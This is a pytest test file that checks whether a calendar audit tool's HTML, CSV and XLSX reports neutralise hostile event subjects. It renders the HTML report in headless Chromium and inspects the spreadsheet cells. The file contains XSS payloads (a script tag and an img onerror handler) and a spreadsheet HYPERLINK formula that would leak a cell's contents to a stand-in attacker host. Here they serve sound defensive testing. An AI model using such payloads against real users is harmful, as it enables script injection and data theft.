"""Adversarial subjects through `report --include-subjects`: inert in a real headless browser, inert in CSV/XLSX."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

from openpyxl import load_workbook
from rich.console import Console

from calendar_audit.cli import main
from calendar_audit.commands.options import Context
from tests.conftest import chromium_path, need

SCRIPT = "<script>document.title='PWNED-script'</script>"
IMG = "<img src=x onerror=\"document.title='PWNED-img'\">"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SUBJECTS = [SCRIPT, IMG, FORMULA, "+SUM(1,2)", "-2+3", "@cmd"]
CHROMIUM = chromium_path()


class Elements(HTMLParser):
    """The elements of a page as the browser left it, and the text of its scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


def report(tmp_path: Path) -> Path:
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:test"]
    for i, subject in enumerate(SUBJECTS):
        lines += ["BEGIN:VEVENT", f"UID:evil-{i}", f"SUMMARY:{subject}", f"DTSTART:202610{19 + i % 5}T090000Z",
                  f"DTEND:202610{19 + i % 5}T100000Z", "ORGANIZER:mailto:outsider@evil.example",
                  "ATTENDEE;PARTSTAT=ACCEPTED:mailto:sam@council.gov.uk", "END:VEVENT"]
    source = tmp_path / "sam@council.gov.uk.ics"
    source.write_text("\r\n".join([*lines, "END:VCALENDAR"]) + "\r\n", encoding="utf-8")
    out = tmp_path / "out"
    ctx = Context(today=date(2026, 11, 1), console=Console(file=io.StringIO()), err=Console(file=io.StringIO()))
    code = main(["report", "--ics", str(source), "--from", "2026-10-19", "--to", "2026-10-25", "--out", str(out),
                 "--format", "html,csv,xlsx", "--include-subjects", "--allow-small-team"], ctx)
    assert code == 0
    return out


def test_adversarial_subjects_render_as_text_in_a_headless_browser(tmp_path: Path) -> None:
    need("chromium", CHROMIUM is not None)
    out = report(tmp_path)
    html = (out / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)  # nothing external to load
    profile = tmp_path / "profile"
    proc = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         f"--user-data-dir={profile}", "--virtual-time-budget=3000", "--dump-dom", (out / "report.html").as_uri()],
        capture_output=True, text=True, timeout=120,
    )
    dom = proc.stdout
    assert "</html>" in dom, proc.stderr[-2000:]
    title = re.search(r"<title>(.*?)</title>", dom, re.S)
    assert title and "PWNED" not in title.group(1)  # neither script ran: each would have changed the title
    elements = Elements()
    elements.feed(dom)
    assert [a for tag, a in elements.found if tag == "img" or any(k.startswith("on") for k, _ in a)] == []
    assert not any("PWNED" in text for text in elements.scripts)  # no live element made from a subject
    assert "&lt;script&gt;document.title='PWNED-script'&lt;/script&gt;" in dom  # shown as text
    shot = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         f"--user-data-dir={profile}", f"--screenshot={tmp_path / 'report.png'}", "--window-size=1280,2000",
         (out / "report.html").as_uri()], capture_output=True, text=True, timeout=120)
    assert shot.returncode == 0 and (tmp_path / "report.png").stat().st_size > 0


def test_adversarial_subjects_are_inert_in_csv_and_xlsx(tmp_path: Path) -> None:
    out = report(tmp_path)
    with (out / "events.csv").open(newline="", encoding="utf-8-sig") as fh:
        subjects = [row["subject"] for row in csv.DictReader(fh)]
    assert sorted(subjects) == sorted(["'" + s if s[0] in "=+-@" else s for s in SUBJECTS])
    book = load_workbook(out / "report.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert all(c.data_type != "f" for c in cells)  # no cell is stored as a formula
    assert any(c.value == "'" + FORMULA for c in cells)
